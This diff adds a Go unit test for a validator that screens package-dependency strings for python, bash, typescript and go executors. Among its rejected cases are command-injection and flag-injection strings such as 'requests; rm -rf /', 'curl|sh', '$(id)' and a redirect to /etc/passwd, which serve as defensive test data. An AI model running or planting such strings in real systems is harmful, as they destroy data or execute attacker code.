@@ -0,0 +1,50 @@
+package executor
+
+import "testing"
+
+func TestValidateDependencies(t *testing.T) {
+	tests := []struct {
+		language   string
+		dependency string
+		wantErr    bool
+	}{
+		{"python", "requests", false},
+		{"python", "requests==2.32.0", false},
+		{"python", "requests[socks]>=2,<3", false},
+		{"python", "numpy~=1.26.0", false},
+		{"python", "requests; rm -rf /", true},
+		{"python", "requests==2.32.0 && curl evil.sh", true},
+		{"python", "$(id)", true},
+		{"python", "-e git+https://example.com/repo", true},
+		{"bash", "curl", false},
+		{"bash", "libssl-dev=3.0.2-0ubuntu1", false},
+		{"bash", "curl|sh", true},
+		{"typescript", "lodash@4", false},
+		{"typescript", "@types/node@^20.0.0", false},
+		{"typescript", "zod@>=3.22", false},
+		{"typescript", "lodash`id`", true},
+		{"typescript", "--unsafe-perm", true},
+		{"typescript", "-g", true},
+		{"typescript", "--prefix=/", true},
+		{"typescript", "@-scope/pkg", true},
+		{"python", "--index-url=https://example.com", true},
+		{"bash", "-oDebug::pkgProblemResolver=1", true},
+		{"go", "-modfile=/tmp/go.mod", true},
+		{"go", "github.com/google/uuid@v1.6.0", false},
+		{"go", "golang.org/x/text@latest", false},
+		{"go", "github.com/google/uuid@v1 > /etc/passwd", true},
+		{"custom", "curl", true},
+		{"python", "requests\n&& id", true},
+	}
+	for _, tt := range tests {
+		_, err := ValidateDependencies(tt.language, []string{tt.dependency})
+		if (err != nil) != tt.wantErr {
+			t.Errorf("ValidateDependencies(%q, %q) error = %v, wantErr %v", tt.language, tt.dependency, err, tt.wantErr)
+		}
+	}
+
+	got, err := ValidateDependencies("python", []string{" requests ", "", "rich"})
+	if err != nil || len(got) != 2 || got[0] != "requests" || got[1] != "rich" {
+		t.Errorf("ValidateDependencies() = %v, %v, want trimmed entries without blanks", got, err)
+	}
+}